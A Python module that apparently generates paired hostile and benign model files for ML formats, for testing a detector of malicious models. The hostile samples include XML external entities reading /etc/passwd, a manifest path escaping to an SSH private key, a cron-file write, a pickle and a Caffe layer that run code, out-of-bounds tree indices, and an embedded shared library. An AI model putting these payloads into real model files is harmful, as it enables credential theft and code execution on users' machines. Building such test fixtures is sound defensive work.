"""Graphs and models of other frameworks."""
import json
import struct

from assembly import call, glob, pickle
from pair import SHELL

from .shared import elf, floats, noise, pb

F = "graphs"


def pmml(doctype: str, value: str) -> bytes:
    text = f"""<?xml version="1.0" encoding="UTF-16"?>
{doctype}<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4">
  <Header copyright="example"><Application name="JPMML-SkLearn" version="1.7"/><Annotation>{value}</Annotation></Header>
  <DataDictionary><DataField name="x1" optype="continuous" dataType="double"/><DataField name="y" optype="categorical" dataType="string"><Value value="yes"/></DataField></DataDictionary>
  <RegressionModel functionName="classification" modelName="m">
    <MiningSchema><MiningField name="y" usageType="target"/><MiningField name="x1"/></MiningSchema>
    <RegressionTable intercept="0.5" targetCategory="yes"><NumericPredictor name="x1" coefficient="1.25"/></RegressionTable>
  </RegressionModel>
</PMML>
"""
    return text.encode("utf-16")


def openvino(offset: int, size: int) -> dict:
    xml = f"""<?xml version="1.0"?>
<net name="main" version="11">
 <layers>
  <layer id="0" name="x" type="Parameter" version="opset1"><data shape="1,8" element_type="f32"/><output><port id="0" precision="FP32"><dim>1</dim><dim>8</dim></port></output></layer>
  <layer id="1" name="w" type="Const" version="opset1"><data element_type="f32" shape="8,4" offset="{offset}" size="{size}"/><output><port id="0" precision="FP32"><dim>8</dim><dim>4</dim></port></output></layer>
  <layer id="2" name="fc" type="MatMul" version="opset1"><data transpose_a="false" transpose_b="false"/><input><port id="0" precision="FP32"><dim>1</dim><dim>8</dim></port><port id="1" precision="FP32"><dim>8</dim><dim>4</dim></port></input><output><port id="2" precision="FP32"><dim>1</dim><dim>4</dim></port></output></layer>
  <layer id="3" name="out" type="Result" version="opset1"><input><port id="0" precision="FP32"><dim>1</dim><dim>4</dim></port></input></layer>
 </layers>
 <edges><edge from-layer="0" from-port="0" to-layer="2" to-port="0"/><edge from-layer="1" from-port="0" to-layer="2" to-port="1"/><edge from-layer="2" from-port="2" to-layer="3" to-port="0"/></edges>
</net>
"""
    return {"model.xml": xml, "model.bin": floats(32)}


def coreml(linked: str) -> bytes:
    """A CoreML Model that links another file: linkedModel = 556, its file name and search path are parameters."""
    feature = lambda name: pb((1, name), (3, pb((5, pb((1, bytes([4])), (2, 65568))))))  # noqa: E731
    description = pb((1, feature("x")), (10, feature("y")))
    file = pb((1, pb((1, linked.rpartition("/")[2]))), (2, pb((1, linked.rpartition("/")[0]))))
    return pb((1, 4), (2, description), (556, pb((1, file))))


def mlpackage(path: str) -> dict:
    weight = "0C7B1E0F-0000-4000-8000-000000000001"
    root = "0C7B1E0F-0000-4000-8000-000000000002"
    manifest = {"fileFormatVersion": "1.0.0", "itemInfoEntries": {
        weight: {"author": "com.apple.CoreML", "description": "CoreML Model Weights", "name": "weights", "path": path},
        root: {"author": "com.apple.CoreML", "description": "CoreML Model Specification", "name": "model.mlmodel", "path": "com.apple.CoreML/model.mlmodel"}}, "rootModelIdentifier": root}
    return {"net.mlpackage/Manifest.json": json.dumps(manifest, indent=2), "net.mlpackage/Data/com.apple.CoreML/model.mlmodel": pb((1, 7), (2, pb((1, pb((1, "x")))))), "net.mlpackage/Data/com.apple.CoreML/weights/weight.bin": floats(64)}


def paddle(op: str, attrs) -> bytes:
    """A Paddle ProgramDesc: feed, mul, one more operator, fetch."""
    var = lambda key, *names: pb((1, key), *((2, n) for n in names))  # noqa: E731
    operator = lambda kind, ins, outs, at=(): pb(*((1, i) for i in ins), *((2, o) for o in outs), (3, kind), *((4, a) for a in at))  # noqa: E731
    text = lambda name, value: pb((1, name), (2, 2), (5, value))  # noqa: E731
    number = lambda name, value: pb((1, name), (2, 0), (3, value))  # noqa: E731
    tensor = lambda name, keep, *dims: pb((1, name), (2, pb((1, 7), (3, pb((1, pb((1, 5), *((2, d) for d in dims))))))), (3, keep))  # noqa: E731
    ops = [operator("feed", [var("X", "feed")], [var("Out", "x")], [number("col", 0)]), operator("mul", [var("X", "x"), var("Y", "fc.w_0")], [var("Out", "y")]),
           operator(op, [var("X", "y")], [var("Out", "z")] if op == "scale" else [], [text(k, v) for k, v in attrs]), operator("fetch", [var("X", "y")], [var("Out", "fetch")], [number("col", 0)])]
    block = pb((1, 0), (2, (1 << 64) - 1), *((3, v) for v in (tensor("x", 0, (1 << 64) - 1, 4), tensor("fc.w_0", 1, 4, 2), tensor("y", 0, (1 << 64) - 1, 2))), *((4, o) for o in ops))
    return pb((1, block), (4, pb((1, 0))))


def xgboost(child: int) -> str:
    tree = {"base_weights": [0.1, -0.4, 0.5], "categories": [], "categories_nodes": [], "categories_segments": [], "categories_sizes": [], "default_left": [0, 0, 0], "id": 0,
            "left_children": [1, -1, -1], "loss_changes": [3.2, 0.0, 0.0], "parents": [2147483647, 0, 0], "right_children": [child, -1, -1], "split_conditions": [0.5, -0.12, 0.15],
            "split_indices": [0, 0, 0], "split_type": [0, 0, 0], "sum_hessian": [10.0, 5.0, 5.0], "tree_param": {"num_deleted": "0", "num_feature": "4", "num_nodes": "3", "size_leaf_vector": "1"}}
    return json.dumps({"learner": {"attributes": {}, "feature_names": [], "feature_types": [], "gradient_booster": {"model": {"gbtree_model_param": {"num_parallel_tree": "1", "num_trees": "1"}, "iteration_indptr": [0, 1], "tree_info": [0], "trees": [tree]}, "name": "gbtree"},
                       "learner_model_param": {"base_score": "5E-1", "boost_from_average": "1", "num_class": "0", "num_feature": "4", "num_target": "1"}, "objective": {"name": "reg:squarederror", "reg_loss_param": {"scale_pos_weight": "1"}}}, "version": [2, 1, 0]})


def lightgbm(right: int) -> str:
    return f"""tree
version=v4
num_class=1
num_tree_per_iteration=1
label_index=0
max_feature_idx=3
objective=regression
feature_names=a b c d
feature_infos=[0:1] [0:1] [0:1] [0:1]
tree_sizes=330

Tree=0
num_leaves=3
num_cat=0
split_feature=0 1
split_gain=3.2 1.1
threshold=0.5 0.25
decision_type=2 2
left_child=1 -1
right_child={right} -3
leaf_value=0.1 0.2 -0.3
leaf_weight=10 10 10
leaf_count=10 10 10
internal_value=0 0.1
internal_weight=30 20
internal_count=30 20
is_linear=0
shrinkage=0.1


end of trees

feature_importances:
a=1
b=1

parameters:
[boosting: gbdt]
end of parameters

pandas_categorical:null
"""


def caffe(module: str, name: str) -> str:
    return f"""name: "net"
layer {{ name: "data" type: "Input" top: "data" input_param {{ shape: {{ dim: 1 dim: 3 dim: 8 dim: 8 }} }} }}
layer {{ name: "fc" type: "InnerProduct" bottom: "data" top: "fc" inner_product_param {{ num_output: 5 }} }}
layer {{ name: "norm" type: "Python" bottom: "fc" top: "norm" python_param {{ module: "{module}" layer: "{name}" param_str: "{{'scale': 2}}" }} }}
"""


def engine(plugin: bytes) -> bytes:
    """A serialised TensorRT engine: header with magic and length, then the body; a plug-in library may be inside."""
    body = noise(2048, 1) + struct.pack("<Q", len(plugin)) + plugin + noise(2048, 2)
    return b"ftrt" + struct.pack("<IQQ", 0xF0, len(body), 0) + body


def add(out):
    def pair(name, hostile, twin, why, prove=None, file=None):
        out.add(F, name, hostile, twin, prove=prove, file=file, why=why)

    pair("pmml-utf16-entity", pmml('<!DOCTYPE PMML [<!ENTITY % p SYSTEM "file:///etc/passwd"><!ENTITY label SYSTEM "file:///etc/hostname">]>\n', "&label;"), pmml("", "yes"),
         "External entities in a PMML written in UTF-16: local files end up in the model.", "ninth-xml", "model.pmml")
    pair("openvino-offset-wraps", openvino((1 << 64) - 64, 128), openvino(0, 128), "offset + size wraps in 64 bits: the constant is read before the weights buffer. Built from the IR's schema, not run.")
    pair("coreml-linked-model", coreml("../../../../Library/Application Support/other/evil.mlmodelc"), coreml("parts/encoder.mlmodelc"), "A linked CoreML model whose file is outside the bundle. Built from the published proto, not run.", None, "model.mlmodel")
    pair("mlpackage-manifest-escape", mlpackage("../../../../../.ssh/id_ed25519"), mlpackage("com.apple.CoreML/weights"), "The manifest of an .mlpackage takes the private key in as an item. Built from the format, not run.")
    pair("paddle-save-operator", paddle("save_combine", [("file_path", "/etc/cron.d/refresh")]), paddle("scale", [("bias_after_scale", "true")]),
         "A save operator inside the inference program writes a file when it runs. Built from framework.proto, not run.", None, "inference.pdmodel")
    params = lambda extra: pickle({"linear.weight": [0.5, -0.5], "StructuredToParameterName@@": {"linear.weight": "linear_0.w_0"}, "hook": extra}, 2)  # noqa: E731
    pair("paddle-params-pickle", params(call(glob("cProfile", "runctx"), "open('marker','w').close()", {}, {})), params(call(glob("collections", "OrderedDict"))),
         "paddle.load unpickles .pdparams; the profiler of the standard library runs the statement.", "pickle", "model.pdparams")
    pair("xgboost-child-outside", xgboost(70000000), xgboost(2), "A child index far outside the tree: out-of-bounds read at prediction. Not run: it would crash the process.", None, "model.json")
    pair("lightgbm-child-outside", lightgbm(99999999), lightgbm(-2), "A child index far outside the tree's arrays: out-of-bounds read at prediction. Not run: it would crash the process.", None, "model.txt")
    program = "import os\n\n\nclass ScaleLayer(object):\n    def setup(self, bottom, top):\n        self.scale = 2\n"
    pair("caffe-python-layer", {"deploy.prototxt": caffe("scale_layer", "ScaleLayer"), "scale_layer.py": program + f"\n\nos.popen('{SHELL}').read()\n"}, {"deploy.prototxt": caffe("scale_layer", "ScaleLayer"), "scale_layer.py": program},
         "The Python layer of a Caffe net imports a module that runs a command at import.", "ninth-import:scale_layer")
    library = bytearray(elf(size=6000))
    library[16] = 3
    pair("tensorrt-plugin-library", engine(bytes(library)), engine(noise(len(library), 3)), "A shared library inside an engine, run when it is deserialised with host code allowed. Header as published, the body stands for the layers; not run.", None, "model.engine")
